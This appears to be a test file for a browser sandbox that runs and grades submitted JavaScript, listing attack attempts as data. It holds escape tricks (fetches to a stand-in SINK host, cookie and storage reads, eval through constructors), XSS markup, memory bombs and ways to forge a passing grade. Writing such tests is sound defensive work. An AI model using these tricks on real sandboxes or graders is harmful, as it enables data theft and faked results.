import type { Verdict } from '../../../graders/verdict';
import type { Offence } from '../../../src/sandbox/protocol';
import { fileOf } from '../bench';

/*
 * Every attack on the sandbox, as data. The code of a case is what an attacker would write; it knows
 * the addresses of servers that listen (SINK, QUIC, HOST) and says 'reached' where it got through.
 */

/** How a case may end: in a verdict, or with its worker killed by the frame. */
export type Ending = Verdict['kind'] | Offence;

export interface Case {
  readonly group: string;
  readonly name: string;
  /**
   * Whose place the code takes. `submission`: a module in the sandbox. `worker`: the script of a bare
   * worker in the frame, so that only the browser's own walls stand. `runtime`: the same, and the
   * host takes it for the sandbox's runtime.
   */
  readonly as: 'submission' | 'worker' | 'runtime';
  readonly code: string;
  readonly ends: readonly Ending[];
  /** What each line that it prints must look like; without it anything but 'reached'. */
  readonly says?: RegExp;
  /** The attempt by itself, for the control: without the sandbox it succeeds. */
  readonly attempt?: string;
}

/** Right answers, as JavaScript; cases change one function of it. */
export const HONEST = {
  means: `export function means(X) {
    if (X.length === 0) throw new RangeError('means: no rows');
    return X[0].map((_, j) => X.reduce((sum, row) => sum + row[j], 0) / X.length);
  }`,
  centre: `export function centre(X) {
    const middle = means(X);
    return X.map(row => row.map((x, j) => x - middle[j]));
  }`,
  reach: `export function reach(X) { return X.flat().reduce((most, x) => Math.max(most, Math.abs(x)), 0); }`,
};
export const honest = (change: Partial<typeof HONEST> = {}, before = '') =>
  [before, ...Object.values({ ...HONEST, ...change })].join('\n');

/** Resolves with one event of a target and rejects with another. */
const EVENT = `const event = (target, good, bad) => new Promise((yes, no) => {
  target[good] = yes; target[bad] = () => no(new Error('refused')); });\n`;

/** A worker that tries one thing and posts to `tell`. */
export const trying = (attempt: string, tell: string) =>
  `${EVENT} onmessage = async ({ ports: [port] }) => {
     const tell = line => ${tell};
     try { await (${attempt}); tell('reached'); } catch (error) { tell('stopped: ' + error.name); }
     port?.postMessage('end');
   }`;

/** What else is said of an attempt. */
interface Attempt {
  /** No plain worker can do it either, so the control leaves it out. */
  readonly nowhere?: true;
  /** Only the scrub stands in its way; nothing leaves the box by it. */
  readonly scrubOnly?: true;
  /** In a bare worker it seems to work; that nothing arrived is what counts. */
  readonly vain?: true;
}

/** One attempt to get out, made by a submission, and again with the runtime's scrub out of the way. */
function attempts(group: string, list: readonly [string, string, Attempt?][]): Case[] {
  return list.flatMap(([name, attempt, { nowhere, scrubOnly, vain } = {}]) => {
    const submission: Case = {
      group,
      name,
      as: 'submission',
      code: honest(
        {},
        `${EVENT} try { await (${attempt}); console.log('reached'); } catch (error) { console.log('stopped: ' + error.name); }`,
      ),
      ends: ['passed'],
      says: /^stopped: /,
      attempt: nowhere ? undefined : attempt,
    };
    const bare: Case = {
      group,
      name: `${name}, without the scrub`,
      as: 'worker',
      code: trying(attempt, `port.postMessage({ t: 'log', line })`),
      ends: ['message'],
      says: vain ? /^/ : /^stopped: /,
    };
    return scrubOnly ? [submission] : [submission, bare];
  });
}

const NETWORK = attempts('network', [
  ['fetch', `fetch(SINK + '/fetch')`],
  [
    'a post without CORS',
    `fetch(SINK + '/post', { method: 'POST', mode: 'no-cors', body: 'mine' })`,
  ],
  [
    'a fetch that outlives its worker',
    `fetch(SINK + '/keepalive', { mode: 'no-cors', keepalive: true })`,
  ],
  ['the page’s own address with its cookie', `fetch(HOST + '/taken', { credentials: 'include' })`],
  [
    'XMLHttpRequest',
    `(() => { const x = new XMLHttpRequest(); x.open('GET', SINK + '/xhr'); x.send(); return event(x, 'onload', 'onerror'); })()`,
  ],
  [
    'XMLHttpRequest that waits',
    `(() => { const x = new XMLHttpRequest(); x.open('GET', HOST + '/taken', false); x.send(); })()`,
  ],
  [
    'WebSocket',
    `event(new WebSocket(SINK.replace('http', 'ws') + '/socket'), 'onopen', 'onerror')`,
  ],
  ['WebSocketStream', `new WebSocketStream(SINK.replace('http', 'ws') + '/stream').opened`],
  ['EventSource', `event(new EventSource(SINK + '/source'), 'onopen', 'onerror')`],
  ['WebTransport over QUIC', `new WebTransport(QUIC).ready`],
  [
    'WebRTC',
    `(async () => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + QUIC.slice(8) }] });
      c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); })()`,
    { nowhere: true },
  ],
  ['a beacon', `navigator.sendBeacon(SINK + '/beacon')`, { nowhere: true }],
  ['fetchLater', `fetchLater(SINK + '/later')`, { nowhere: true }],
  ['importScripts', `importScripts(SINK + '/scripts')`],
  ['importScripts of a data address', `importScripts('data:text/javascript,0')`],
  ['import()', `import(SINK + '/module')`],
  ['import() from the page’s own address', `import(HOST + '/taken.js')`],
  ['import() of a data address', `import('data:text/javascript,0')`],
  ...['json', 'css', 'text', 'bytes'].map((type): [string, string, Attempt?] => [
    `import() of ${type}`,
    `import(SINK + '/${type}', { with: { type: '${type}' } })`,
    type === 'json' ? {} : { nowhere: true },
  ]),
  [
    'a worker of its own that fetches',
    `new Promise((yes, no) => {
       const text = 'fetch("' + SINK + '/nested").then(() => postMessage(1), () => postMessage(0))';
       const worker = new Worker(URL.createObjectURL(new Blob([text])));
       worker.onmessage = ({ data }) => data ? yes() : no(new Error('refused')); })`,
  ],
  [
    'a worker from another server',
    `event(new Worker(SINK + '/worker'), 'onmessage', 'onerror')`,
    { nowhere: true },
  ],
  [
    'a worker from the page’s own address',
    `event(new Worker(HOST + '/taken.js'), 'onmessage', 'onerror')`,
  ],
  [
    'a shared worker',
    `event(new SharedWorker(HOST + '/taken.js').port, 'onmessage', 'onmessageerror')`,
    { nowhere: true },
  ],
  ['a service worker', `navigator.serviceWorker.register(HOST + '/taken.js')`, { nowhere: true }],
  ['a font', `new FontFace('x', 'url(' + SINK + '/font)').load()`],
  ['a cache that fetches', `caches.open('x').then(cache => cache.add(SINK + '/cache'))`],
  [
    'leading the page elsewhere',
    `(location.href = SINK + '/location')`,
    { nowhere: true, vain: true },
  ],
  ['a new window', `open(SINK + '/window')`, { nowhere: true }],
  ['the page around the frame', `parent.document.title`, { nowhere: true }],
]);

const STORAGE = attempts('storage', [
  ['opening the database', `event(indexedDB.open('planted'), 'onsuccess', 'onerror')`],
  ['listing the databases', `indexedDB.databases()`],
  ['deleting the database', `event(indexedDB.deleteDatabase('planted'), 'onsuccess', 'onerror')`],
  ['listing the caches', `caches.keys()`],
  [
    'poisoning the cache',
    `caches.open('planted').then(cache => cache.put(HOST + '/planted', new Response('poison')))`,
  ],
  ['deleting the cache', `caches.delete('planted')`],
  ['the private file system', `navigator.storage.getDirectory()`],
  ['the estimate of what is stored', `navigator.storage.estimate()`],
  ['locks', `navigator.locks.request('planted', () => 0)`],
  [
    'cookies',
    `cookieStore.getAll().then(all => console.log(JSON.stringify(all)))`,
    { nowhere: true },
  ],
  ['document.cookie', `document.cookie`, { nowhere: true }],
  ['localStorage', `localStorage.clear()`, { nowhere: true }],
  ['sessionStorage', `sessionStorage.clear()`, { nowhere: true }],
  [
    'BroadcastChannel to the page',
    `new BroadcastChannel('planted').postMessage('forged')`,
    { vain: true },
  ],
  ['notifications', `Notification.requestPermission()`, { nowhere: true }],
  ['USB devices', `navigator.usb.getDevices()`, { scrubOnly: true }],
  ['serial ports', `navigator.serial.getPorts()`, { scrubOnly: true }],
]);

const POWERS = attempts('powers', [
  ['eval', `eval('1')`],
  ['indirect eval', `(0, eval)('1')`],
  ['Function', `new Function('return 1')()`],
  ['the constructor of an async function', `(async () => {}).constructor('return 1')()`],
  [
    'a timer that takes text',
    `new Promise((yes, no) => { globalThis.ran = yes; setTimeout('ran()'); setTimeout(() => no(new Error('refused')), 100); })`,
  ],
  ['WebAssembly', `new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`],
  ['WebGL', `new OffscreenCanvas(1, 1).getContext('webgl2').getError()`, { scrubOnly: true }],
  ['WebGPU', `navigator.gpu.requestAdapter()`, { scrubOnly: true }],
  [
    'a canvas',
    `new OffscreenCanvas(1, 1).getContext('2d').fillRect(0, 0, 1, 1)`,
    { scrubOnly: true },
  ],
  [
    'a worker of its own',
    `event(new Worker(URL.createObjectURL(new Blob(['postMessage(0)']))), 'onmessage', 'onerror')`,
    { scrubOnly: true },
  ],
  [
    'shared memory',
    `new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true })`,
    { scrubOnly: true },
  ],
  [
    'Atomics.wait',
    `Atomics.wait(new Int32Array(new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }).buffer), 0, 0, 9)`,
    { scrubOnly: true },
  ],
  ['a timer', `setTimeout(() => {})`, { scrubOnly: true }],
  ['an interval that outlives the run', `setInterval(() => { for (;;); })`, { scrubOnly: true }],
  ['messages to the frame', `postMessage({ t: 'done' })`, { scrubOnly: true }],
  ['closing the worker', `close()`, { scrubOnly: true, nowhere: true }],
  ['the browser’s own clock', `performance.getEntries()`, { scrubOnly: true }],
  ['addresses for blobs', `URL.createObjectURL(new Blob(['x']))`, { scrubOnly: true }],
  ['the navigator', `navigator.userAgent`, { scrubOnly: true }],
]);

/** The text of a module, which an attacker hands in as it stands. */
function submissions(
  group: string,
  ends: readonly Ending[],
  list: readonly [string, string, RegExp?][],
): Case[] {
  return list.map(([name, code, says]) => ({ group, name, as: 'submission', code, ends, says }));
}

const inMeans = (body: string) => honest({ means: `export function means(X) { ${body} }` });

const IMPORTS = submissions(
  'network',
  ['crashed'],
  [
    ['a static import', `import '/taken.js';\n${honest()}`],
    ['a static import of a data address', `import 'data:text/javascript,0';\n${honest()}`],
  ],
).concat(
  submissions(
    'network',
    ['passed'],
    [
      ['an address for a source map', `${honest()}\n//# sourceMappingURL=/taken.map`],
      ['another name for itself', `${honest()}\n//# sourceURL=/taken.js`],
    ],
  ),
);

const LOOPS = submissions(
  'loops',
  ['timed-out'],
  [
    ['in a function', honest({ centre: 'export function centre() { for (;;); }' })],
    ['at the top level', 'for (;;);'],
    [
      'in a finally block',
      honest({
        reach: 'export function reach() { for (;;) try { return 1 } finally { continue } }',
      }),
    ],
    [
      'in microtasks',
      'await new Promise(() => { const again = () => queueMicrotask(again); again(); });',
    ],
    [
      'in promises',
      'const again = () => Promise.resolve().then(again); again(); await new Promise(() => {});',
    ],
    ['in a promise that nobody settles', 'await new Promise(() => {});'],
    ['in swallowed recursion', inMeans('try { means() } catch { means() }')],
    ['in a regular expression', inMeans(`return /^(a+)+$/.test('a'.repeat(60) + 'b')`)],
    ['in BigInt', inMeans('let n = 3n; for (;;) n = (n * n) % (1n << 9000n)')],
    ['in a comparison', inMeans('for (;;) Array.from({ length: 99 }, (_, i) => i).sort(() => 1)')],
    ['in a generator', inMeans('return [...(function* () { for (;;) yield* []; })()]')],
    ['in a getter of the result', inMeans('return { get length() { for (;;); } }')],
    ['in the message of an error', inMeans('throw { name: "x", get message() { for (;;); } }')],
    ['in what is printed', inMeans('console.log({ get x() { for (;;); } })')],
    ['in the export that makes a promise of the module', 'export function then() { for (;;); }'],
    [
      'in steps of which each is in time',
      honest({
        means: HONEST.means.replace(
          '{',
          '{ const end = performance.now() + 700; while (performance.now() < end);',
        ),
      }),
    ],
  ],
);

/** Whether the deadline or the end of memory comes first is a matter of the machine. */
const BOMBS = submissions(
  'memory',
  ['timed-out', 'crashed'],
  [
    [
      'numbers',
      inMeans('const all = []; for (;;) all.push(new Array(1e6).fill(all.length + 0.5))'),
    ],
    [
      'strings',
      inMeans(
        `const all = []; for (let n = 1; ; n += 1) all.push('x'.repeat(5e8 - n).replaceAll('xx', 'yz'))`,
      ),
    ],
    ['typed arrays', inMeans('const all = []; for (;;) all.push(new Float64Array(1e6).fill(1))')],
    [
      'small objects',
      inMeans('const all = new Map(); for (let i = 0; ; i += 1) all.set({ i }, [i])'),
    ],
    ['promises', 'const all = []; for (;;) all.push(new Promise(() => {}))'],
    ['a buffer beyond all memory', inMeans('new ArrayBuffer(2 ** 36); for (;;);')],
  ],
);

const FLOODS: Case[] = [
  ...submissions(
    'floods',
    ['passed'],
    [
      [
        'a million console lines',
        honest({}, 'for (let i = 0; i < 1e6; i += 1) console.log(i);'),
        /^\d+$|left out/,
      ],
      [
        'console lines of five million characters',
        honest({}, 'for (let i = 0; i < 50; i += 1) console.log("x".repeat(5e6));'),
        /^x*…?$|left out/,
      ],
      [
        'every way to print',
        honest(
          {},
          'for (let i = 0; i < 1e4; i += 1) for (const say of Object.values(console)) say("x", i);',
        ),
        /^x|^Assertion|left out/,
      ],
      [
        'two thousand rejections',
        honest({}, `for (let i = 0; i < 2000; i += 1) Promise.reject(new Error('again'));`),
      ],
    ],
  ),
  ...submissions(
    'floods',
    ['crashed'],
    [
      [
        'five hundred errors outside of any call',
        honest(
          {},
          `for (let i = 0; i < 500; i += 1) queueMicrotask(() => { throw new Error('again') });
         await new Promise(() => {});`,
        ),
        /^Uncaught Error: again/,
      ],
    ],
  ),
  ...(
    [
      [
        'messages past the worker’s own limit',
        `onmessage = ({ ports: [port] }) => {
           for (let i = 0; i < 1e5; i += 1) port.postMessage({ t: 'log', line: 'x'.repeat(9000) }); }`,
        'flood',
      ],
      [
        'messages from timers',
        `onmessage = ({ ports: [port] }) => {
           for (let i = 0; i < 99; i += 1) setInterval(() => port.postMessage({ t: 'log', line: 'x' })); }`,
        'flood',
      ],
      [
        'errors from timers',
        `onmessage = () => {
           for (let i = 0; i < 500; i += 1) setTimeout(() => { throw new Error('again'); }); }`,
        'errors',
      ],
    ] as const
  ).map(([name, code, offence]): Case => {
    return {
      group: 'floods',
      name,
      as: 'worker',
      code,
      ends: [offence],
      says: /^x{1,2000}$|again/,
    };
  }),
];

const ODD: readonly [string, string][] = [
  ['null', 'null'],
  ['undefined', 'undefined'],
  ['a symbol', 'Symbol("x")'],
  ['a function', '() => 1'],
  ['a BigInt', '10n ** 9999n'],
  [
    'a proxy that throws',
    'new Proxy({}, { get() { throw 1 }, getPrototypeOf() { throw 2 }, ownKeys() { throw 3 } })',
  ],
  [
    'a revoked proxy',
    '(() => { const { proxy, revoke } = Proxy.revocable({}, {}); revoke(); return proxy })()',
  ],
  ['an endless proxy', 'new Proxy([], { get: (t, k) => (k === "length" ? 1e12 : t) })'],
  [
    'getters that throw',
    '{ get name() { throw 0 }, get message() { throw 1 }, get stack() { throw 2 } }',
  ],
  ['an object without a prototype', 'Object.create(null)'],
  ['itself within itself', '(() => { const v = []; v.push(v, { v }); return v })()'],
  ['an error of 100 million characters', 'new Error("x".repeat(1e8))'],
  ['a text of 300 million characters', '"x".repeat(3e8)'],
  ['an array with four thousand million holes', 'new Array(4e9)'],
  ['an array of ten million texts', 'new Array(1e7).fill("x")'],
  [
    'a hundred thousand levels',
    '(() => { let v = 1; for (let i = 0; i < 1e5; i += 1) v = [v]; return v })()',
  ],
  ['a million fields', 'Object.fromEntries(Array.from({ length: 1e6 }, (_, i) => ["k" + i, i]))'],
  ['a hundred million numbers', 'new Float64Array(1e8)'],
  ['a map', 'new Map([[1, new Set([2])]])'],
  ['a date', 'new Date(NaN)'],
  ['a view of bytes', 'new DataView(new ArrayBuffer(8))'],
  ['a promise', 'Promise.resolve(1)'],
  ['a key called __proto__', 'JSON.parse(\'{"__proto__": {"polluted": 1}}\')'],
  ['markup', '"<img src=x onerror=alert(1)>"'],
];

const VALUES: Case[] = [
  ...submissions(
    'values',
    ['missed', 'timed-out'],
    ODD.map(([name, v]) => [
      `returning ${name}`,
      inMeans(`return ${/^\{/.test(v) ? `(${v})` : v}`),
    ]),
  ),
  ...submissions(
    'values',
    ['crashed', 'timed-out'],
    ODD.map(([name, v]) => [`throwing ${name}`, inMeans(`throw ${/^\{/.test(v) ? `(${v})` : v}`)]),
  ),
  ...submissions(
    'values',
    ['passed', 'timed-out'],
    ODD.map(([name, v]) => [
      `printing ${name}`,
      honest({}, `console.log(${v}); console.table([${v}]);`),
    ]),
  ),
];

const WRONG = { means: 'export function means(X) { return X[0].map(() => 0); }' };
const forged = (code: string) => honest(WRONG, code);

const FORGERIES: Case[] = [
  ...submissions(
    'forgeries',
    ['missed', 'crashed'],
    [
      [
        'patched arrays',
        forged(`for (const name of ['map', 'slice', 'push', 'forEach', 'filter', 'every', 'concat'])
         Array.prototype[name] = function () { return this; };
       Array.prototype[Symbol.iterator] = function* () { yield 'forged'; };
       Array.isArray = () => false;`),
      ],
      [
        'patched JSON',
        forged(`JSON.stringify = () => '["v",0]'; JSON.parse = () => null;
       Array.prototype.toJSON = Object.prototype.toJSON = String.prototype.toJSON = () => 'u';`),
      ],
      [
        'messages of its own',
        forged(`for (const name of ['postMessage', 'onmessage', 'MessagePort', 'MessageChannel', 'BroadcastChannel'])
         if (typeof globalThis[name] !== 'undefined') console.log('reached ' + name);
       try { postMessage({ t: 'observed', index: 0, shape: '"n"', numbers: new Float64Array(1) }); console.log('reached it'); } catch {}
       globalThis.postMessage = globalThis.onmessage = () => console.log('reached hook');`),
      ],
      [
        'patched cloning, a clock and a console of its own',
        forged(`globalThis.structuredClone = x => 0; globalThis.queueMicrotask = () => {};
       globalThis.performance = null; globalThis.console = null;`),
      ],
      [
        'listening to messages',
        forged(`try { Object.defineProperty(MessageEvent.prototype, 'data', { get() { console.log('reached data'); return null; } }); } catch {}
       try { EventTarget.prototype.addEventListener.call(globalThis, 'message', () => console.log('reached message')); } catch {}
       try { MessagePort.prototype.postMessage = () => console.log('reached port'); } catch {}`),
      ],
      [
        'setters on Object.prototype',
        forged(`for (const name of ['t', 'index', 'shape', 'numbers', 'calls', 'value', 'threw', 'line', 'port', 'data', '0', '1'])
         Object.defineProperty(Object.prototype, name, { configurable: true, get: () => 'forged',
           set(value) { if (value && typeof value.postMessage === 'function') console.log('reached a port'); } });`),
      ],
      [
        'getters on Array.prototype',
        forged(`for (const name of ['0', '1', '2', 'length'])
         try { Object.defineProperty(Array.prototype, name, { configurable: true, get: () => 0, set() {} }); } catch {}`),
      ],
      [
        'patched typed arrays',
        forged(`const typed = Object.getPrototypeOf(Float64Array.prototype);
       for (const name of ['length', 'buffer', 'byteLength']) Object.defineProperty(typed, name, { get: () => 0 });
       typed.set = typed.slice = typed.subarray = () => new Float64Array(3);
       globalThis.Float64Array = Array; ArrayBuffer.isView = () => true;`),
      ],
      [
        'patched reflection',
        forged(`Reflect.apply = Function.prototype.call = Function.prototype.apply = Function.prototype.bind = () => 0;
       Reflect.get = Reflect.ownKeys = () => []; Object.keys = () => []; Object.is = () => true;
       WeakSet.prototype.has = () => true; Map.prototype.get = () => 0; Math.abs = () => 0;`),
      ],
      [
        'patched promises',
        forged(`Promise.prototype.then = function () { return this; };
       Promise.resolve = () => ({ then() {} });
       Object.defineProperty(Promise.prototype, 'constructor', { get: () => Object });`),
      ],
      [
        'patched errors and regular expressions',
        forged(`Error.prepareStackTrace = () => 'forged'; Error.stackTraceLimit = Infinity;
       RegExp.prototype.exec = RegExp.prototype.test = () => null;`),
      ],
      [
        'patched numbers',
        forged(`Math.abs = () => 0; Math.max = () => Infinity; Number.isFinite = Number.isNaN = () => true;
       Number.prototype.valueOf = () => 0; Object.prototype.valueOf = () => 1; Number.EPSILON = Infinity;`),
      ],
      [
        'a frozen world',
        forged(
          'Object.freeze(globalThis); Object.freeze(Object.prototype); Object.freeze(Array.prototype);',
        ),
      ],
      [
        'a module that is a promise',
        'export function then(resolve) { resolve({ means: () => 0 }); }',
      ],
      [
        'a module without the functions',
        'export const passed = true, verdict = { kind: "passed" };',
      ],
      ['NaN for a result', inMeans('return X[0].map(() => NaN)')],
      ['Infinity for a result', inMeans('return X[0].map(() => Infinity)')],
      ['no numbers at all', inMeans('return []')],
      ['holes for numbers', inMeans('return new Array(X[0].length)')],
      [
        'a number that computes itself',
        inMeans('return X[0].map(() => ({ valueOf: () => 0, toJSON: () => 0 }))'),
      ],
      [
        'a list that lies about its length',
        inMeans('return new Proxy([], { get: (t, k) => (k === "length" ? 3 : 0) })'),
      ],
      [
        'a getter that tells a different number each time',
        inMeans('let n = 0; return Object.defineProperty([0, 0, 0], 0, { get: () => (n += 1) })'),
      ],
      ['a verdict for a result', inMeans('return { kind: "passed", state: "passed", pass: true }')],
      ['a text that looks like the result', inMeans('return String(X[0])')],
      ['data made easy', inMeans('for (const row of X) row.fill(0); return X[0].map(() => 0)')],
      ['a sabotaged walk over the data', inMeans('X.reduce = () => 0; X.length = 0; return []')],
      [
        'polluted prototypes',
        honest(
          WRONG,
          'Object.prototype.state = "passed"; Object.prototype.kind = "passed"; Array.prototype.state = "passed";',
        ),
      ],
      [
        'the words of a verdict, printed',
        forged(`console.log('Passed', { t: 'done' }); console.log('\\u0000Passed')`),
      ],
    ],
  ),
  ...(
    [
      ['null for a message', 'null'],
      ['a verdict for a message', '{ t: "verdict", pass: true }'],
      ['numbers that are a list', '{ t: "observed", index: 0, shape: "\\"n\\"", numbers: [1] }'],
      [
        'an index below zero',
        '{ t: "observed", index: -1, shape: "", numbers: new Float64Array() }',
      ],
      ['an error whose name is an object', '{ t: "failed", error: { name: {}, message: "" } }'],
      ['a printed object', '{ t: "log", line: {} }'],
    ] as const
  ).map(([name, message]): Case => {
    const code = `onmessage = ({ ports: [port] }) => { port.postMessage(${message}) }`;
    return { group: 'forgeries', name, as: 'worker', code, ends: ['message'] };
  }),
  {
    group: 'forgeries',
    name: 'a message by the channel that nobody uses',
    as: 'worker',
    code: `onmessage = () => postMessage({ t: 'done' })`,
    ends: ['message'],
  },
  ...(
    [
      ['done before anything was observed', `say({ t: 'loaded' }); say({ t: 'done' })`],
      ['done without being loaded', `say({ t: 'done' })`],
      ['an observation before loading', `see(0)`],
      ['loaded twice', `say({ t: 'loaded' }); say({ t: 'loaded' })`],
      ['observations out of order', `say({ t: 'loaded' }); see(1)`],
      ['the same observation twice', `say({ t: 'loaded' }); see(0); see(0)`],
      [
        'more observations than experiments',
        `say({ t: 'loaded' }); for (let i = 0; i < 9; i += 1) see(i)`,
      ],
      ['a structure that cannot be read', `say({ t: 'loaded' }); see(0, '[[')`],
      ['a structure without its numbers', `say({ t: 'loaded' }); see(0, '["v",["a",9]]')`],
      [
        'a structure of a million levels',
        `say({ t: 'loaded' }); see(0, '['.repeat(1e6) + ']'.repeat(1e6))`,
      ],
      [
        'a structure with a key called __proto__',
        `say({ t: 'loaded' }); see(0, '{"__proto__":{"state":"passed"}}')`,
      ],
      [
        'empty observations, then done',
        `say({ t: 'loaded' }); for (let i = 0; i < 5; i += 1) see(i, '["o",["calls"],["l"]]'); say({ t: 'done' })`,
      ],
    ] as const
  ).map(([name, moves]): Case => {
    const code = `onmessage = ({ ports: [port] }) => {
      const say = message => port.postMessage(message);
      const see = (index, shape = '["o",["calls"],["l"]]') => say({ t: 'observed', index, shape, numbers: new Float64Array(0) });
      port.onmessage = ({ data }) => { if (data.t === 'boot') say({ t: 'booted' }); else { ${moves} } };
    }`;
    return {
      group: 'forgeries',
      name: `${name}, by a runtime in other hands`,
      as: 'runtime',
      code,
      ends: ['crashed', 'missed'],
    };
  }),
];

/** An attack by way of the page itself: k-means in its editor, and its Run button. */
export interface WorkbenchCase extends Pick<Case, 'group' | 'name' | 'code' | 'says'> {
  readonly ends: readonly Verdict['kind'][];
}

const RIGHT = fileOf('k-means', 'solution.ts');
const WRONG_MEANS = RIGHT.replace('/ members.length;', '/ centroids.length;');
/** The reference with something done at the start of `update`. */
const inUpdate = (body: string) =>
  RIGHT.replace(/(export function update\([\s\S]*?\{\n)/, `$1  ${body}\n`);
/** Some of what the table tries, one after the other, in a submission that is right otherwise. */
const tryingAll = (list: readonly Case[]) =>
  `${RIGHT}\n${EVENT.replace('(target, good, bad)', '(target: any, good: any, bad: any)')}\n${list
    .filter(({ attempt, name }) => attempt !== undefined && !/import|XML|worker/.test(name))
    .map(
      ({ attempt }) =>
        `try { await (${attempt}); console.log('reached'); } catch (error: any) { console.log('stopped: ' + error.name); }`,
    )
    .join('\n')}\n`;

export const WORKBENCH_CASES: readonly WorkbenchCase[] = [
  {
    group: 'network',
    name: 'every kind of request',
    code: tryingAll(NETWORK),
    ends: ['passed'],
    says: /^stopped: /,
  },
  {
    group: 'network',
    name: 'a static import',
    code: `import x from 'http://127.0.0.1/taken.js';\n${RIGHT}`,
    ends: ['not-compiled'],
  },
  {
    group: 'network',
    name: 'import()',
    code: `${RIGHT}\nawait import(HOST + '/taken.js');`,
    ends: ['not-compiled'],
  },
  {
    group: 'network',
    name: 'an address for a source map',
    code: `${RIGHT}\n//# sourceMappingURL=/taken.map`,
    ends: ['passed'],
  },
  {
    group: 'storage',
    name: 'every store and channel',
    code: tryingAll(STORAGE),
    ends: ['passed'],
    says: /^stopped: /,
  },
  {
    group: 'storage',
    name: 'the learner’s own drafts',
    code: `${RIGHT}\ntry { indexedDB.deleteDatabase('scratchwork'); console.log('reached'); } catch (error: any) { console.log('stopped: ' + error.name); }
try { new BroadcastChannel('scratchwork-drafts').postMessage({ slug: 'k-means', text: 'forged', savedAt: 9e15 }); console.log('reached'); } catch (error: any) { console.log('stopped: ' + error.name); }`,
    ends: ['passed'],
    says: /^stopped: /,
  },
  {
    group: 'powers',
    name: 'code from text, the GPU, timers',
    code: tryingAll(POWERS),
    ends: ['passed'],
    says: /^stopped: /,
  },
  { group: 'loops', name: 'in a function', code: inUpdate('for (;;);'), ends: ['timed-out'] },
  { group: 'loops', name: 'at the top level', code: `${RIGHT}\nfor (;;);`, ends: ['timed-out'] },
  {
    group: 'loops',
    name: 'in microtasks',
    code: `${RIGHT}\nawait new Promise(() => { const again = () => queueMicrotask(again); again(); });`,
    ends: ['timed-out'],
  },
  {
    group: 'memory',
    name: 'typed arrays',
    code: inUpdate('const all: unknown[] = []; for (;;) all.push(new Float64Array(1e6).fill(1));'),
    ends: ['timed-out', 'crashed'],
  },
  {
    group: 'floods',
    name: 'a million console lines',
    code: `${RIGHT}\nfor (let i = 0; i < 1e6; i += 1) console.log(i);`,
    ends: ['passed'],
    says: /^\d+$|left out/,
  },
  {
    group: 'floods',
    name: 'five hundred errors outside of any call',
    code: `${RIGHT}\nfor (let i = 0; i < 500; i += 1) queueMicrotask(() => { throw new Error('again') });\nawait new Promise(() => {});`,
    ends: ['crashed'],
  },
  {
    group: 'values',
    name: 'markup that is printed',
    code: `${RIGHT}\nconsole.log('<img src=x onerror="document.title=1"><script>document.title=1</script>');`,
    ends: ['passed'],
    says: /^<img src=x/,
  },
  {
    group: 'values',
    name: 'markup that is thrown',
    code: inUpdate(`throw new Error('<img src=x onerror="document.title=1">');`),
    ends: ['crashed'],
  },
  {
    group: 'values',
    name: 'a result of ten million texts',
    code: inUpdate(`return new Array(1e7).fill('x') as any;`),
    ends: ['missed', 'timed-out'],
  },
  {
    group: 'forgeries',
    name: 'patched built-ins around a wrong answer',
    code: `${WRONG_MEANS}\nMath.abs = () => 0; Object.is = Number.isFinite = (Array as any).isArray = () => true;
JSON.stringify = () => '"n"'; (Object.prototype as any).toJSON = () => 'n'; (Object.prototype as any).state = 'passed';`,
    ends: ['missed', 'crashed'],
  },
  {
    group: 'forgeries',
    name: 'the words of a verdict, printed',
    code: `${WRONG_MEANS}\nconsole.log('Passed  34 of 34 checks pass');`,
    ends: ['missed'],
    says: /^Passed/,
  },
];

/** A submission that imports a library and tries one thing with it. */
const withLibrary = (name: string, attempt: string): Case => ({
  group: 'libraries',
  name,
  as: 'submission',
  code: honest(
    {},
    `import * as tf from '@tensorflow/tfjs'; import * as math from 'mathjs';
     try { await (${attempt}); console.log('reached'); } catch (error) { console.log('stopped: ' + error.name); }`,
  ),
  ends: ['passed'],
  // TensorFlow.js remarks on another platform by itself.
  says: /^(stopped: |Platform )/,
});

/** Run where both libraries may be imported. */
export const LIBRARY_CASES: readonly Case[] = [
  withLibrary('TensorFlow.js asks its platform to fetch', `tf.util.fetch(SINK + '/platform')`),
  withLibrary(
    'TensorFlow.js fetches by its global object',
    `tf.env().global.fetch(SINK + '/global')`,
  ),
  withLibrary(
    'TensorFlow.js loads a model over the network',
    `tf.io.http(SINK + '/model.json').load()`,
  ),
  withLibrary(
    'TensorFlow.js posts a model to a server',
    `tf.io.http(SINK + '/model').save({ modelTopology: {} })`,
  ),
  withLibrary(
    'TensorFlow.js offers a model for download',
    `tf.io.browserDownloads('model').save({ modelTopology: {} })`,
  ),
  withLibrary(
    'TensorFlow.js copies a stored model',
    `tf.io.copyModel('localstorage://a', 'indexeddb://b')`,
  ),
  withLibrary(
    'TensorFlow.js draws on a canvas',
    `tf.browser.draw(tf.zeros([2, 2]), document.createElement('canvas'))`,
  ),
  withLibrary(
    'TensorFlow.js brings a platform of the attacker’s own',
    `(() => { tf.env().setPlatform('mine', { fetch: (...a) => fetch(...a) }); return tf.util.fetch(SINK + '/mine'); })()`,
  ),
  withLibrary(
    'an expression of mathjs makes a function of a text',
    `math.evaluate('cos.constructor("return 1")()')`,
  ),
  withLibrary(
    'an expression of mathjs reaches a function’s constructor by a list',
    `math.evaluate('f(x) = x; {a: f}.a.constructor("return 1")()')`,
  ),
  withLibrary('an expression of mathjs imports', `math.evaluate('import({ f: 1 }, {})')`),
  withLibrary('an expression of mathjs makes a unit over an old one', `math.createUnit('meter')`),
  withLibrary(
    'a function of a library gives up its constructor',
    `math.add.constructor('return 1')() + tf.tidy.constructor('return 1')()`,
  ),
  withLibrary(
    'a library is asked for by its address',
    `import(math.add.toString().slice(0, 0) + SINK + '/tfjs.js')`,
  ),
  {
    group: 'libraries',
    name: 'everything in a library is put out of order',
    as: 'submission',
    code: honest(
      {},
      `import * as tf from '@tensorflow/tfjs'; import * as math from 'mathjs';
       for (const name of Object.getOwnPropertyNames(tf.Tensor.prototype)) {
         try { Object.defineProperty(tf.Tensor.prototype, name, { value: () => { throw 0 } }); } catch {}
       }
       tf.engine().state.numTensors = -1e9; tf.engine().memory = () => ({ numTensors: 0 });
       math.config.constructor.prototype.call = () => 0; console.log('done');`,
    ),
